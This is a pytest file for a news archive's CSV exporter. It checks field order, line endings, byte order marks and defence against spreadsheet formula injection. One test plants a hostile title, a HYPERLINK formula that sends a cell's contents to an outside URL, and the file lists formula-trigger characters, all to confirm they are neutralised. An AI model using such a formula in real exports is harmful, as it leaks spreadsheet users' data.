"""`.csv`: what a spreadsheet reads, and that it runs nothing."""

import csv
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine, update

from hubei_news.archive.engine import open_archive, writer
from hubei_news.archive.export import export_archive
from hubei_news.archive.export.comma_separated import FORMULA, make_cell, read_cell
from hubei_news.archive.export.formats import Format
from hubei_news.archive.export.selection import Selection
from hubei_news.archive.models import ArticleRow
from hubei_news.article import PUBLIC_FIELDS
from tests.archive.export.choices import CHOICES, IN_ORDER
from tests.archive.stored_articles import ARTICLES

SIGNS = "=+-@＝＋－＠﹢﹣﹦﹫\t\r\n\0"


@pytest.fixture
def archive(archive_path: Path) -> Engine:
    """The formats differ, not the databases: SQLite is enough here."""
    return open_archive(archive_path)


def rows(file: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    with file.open(encoding=encoding, newline="") as stream:
        return list(csv.DictReader(stream))


def test_a_row_an_article_under_the_names_of_the_record(archive: Engine, tmp_path: Path) -> None:
    assert export_archive(archive, tmp_path / "out.csv").articles == len(ARTICLES)
    found = rows(tmp_path / "out.csv")
    assert list(found[0]) == list(PUBLIC_FIELDS)
    assert [row["title"] for row in found] == [ARTICLES[number].title for number in IN_ORDER]
    market = found[3]
    assert market["body"] == ARTICLES[0].body
    assert market["reporters"] == "周小满"
    assert json.loads(market["cuts"]) == [{"rule": "editor-line", "text": "编辑：何禾"}]
    assert (market["published_at"], market["repairs"], market["subtitle"]) == (
        "2026-07-14T08:30+08:00",
        "0",
        "",
    )


def test_lines_end_as_rfc_4180_says(archive: Engine, tmp_path: Path) -> None:
    export_archive(archive, tmp_path / "out.csv")
    content = (tmp_path / "out.csv").read_bytes()
    assert content.count(b"\r\n") == len(ARTICLES) + 1
    assert content.startswith(b"url,site,")


def test_a_byte_order_mark_on_request(archive: Engine, tmp_path: Path) -> None:
    export_archive(archive, tmp_path / "out.csv", form=Format("csv", byte_order_mark=True))
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbfurl,")
    assert list(rows(tmp_path / "out.csv", "utf-8-sig")[0]) == list(PUBLIC_FIELDS)


@pytest.mark.parametrize(("selection", "expected"), CHOICES[:2])
def test_only_the_chosen_ones(
    archive: Engine, tmp_path: Path, selection: Selection, expected: list[int]
) -> None:
    export_archive(archive, tmp_path / "out.csv", selection)
    found = [row["url"] for row in rows(tmp_path / "out.csv")]
    assert found == [ARTICLES[number].url for number in IN_ORDER if number in expected]


def test_a_title_that_a_page_made_a_formula_of_is_text(archive: Engine, tmp_path: Path) -> None:
    evil = '=HYPERLINK("https://example.org/?"&A1,"点击查看")'
    with writer(archive).begin() as connection:
        connection.execute(update(ArticleRow).where(ArticleRow.title == ARTICLES[4].title).values(title=evil))
    export_archive(archive, tmp_path / "out.csv")
    cell = rows(tmp_path / "out.csv")[0]["title"]
    assert cell == f"'{evil}"
    assert read_cell(cell) == evil


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", ["", " ", "\u3000", "'", "''"])
def test_no_cell_begins_as_a_formula_does(sign: str, before: str) -> None:
    cell = make_cell(f"{before}{sign}1+1")
    assert isinstance(cell, str)
    assert cell.startswith("'")
    assert read_cell(cell) == f"{before}{sign}1+1"


@pytest.mark.parametrize("text", ["随州香菇", "（记者 周小满）", "——编者按", "'引号", "2026年=丰收年", "1-2"])
def test_other_texts_are_left_as_they_are(text: str) -> None:
    assert make_cell(text) == text


def test_a_list_of_names_is_guarded_too() -> None:
    assert make_cell(["=周小满", "何禾"]) == "'=周小满；何禾"


@given(st.text(alphabet=st.sampled_from(f"{SIGNS}' \u3000随州1")))
def test_every_text_comes_back_and_none_is_a_formula(text: str) -> None:
    cell = make_cell(text)
    assert isinstance(cell, str)
    assert read_cell(cell) == text
    assert cell.startswith("'") or not FORMULA.match(cell)
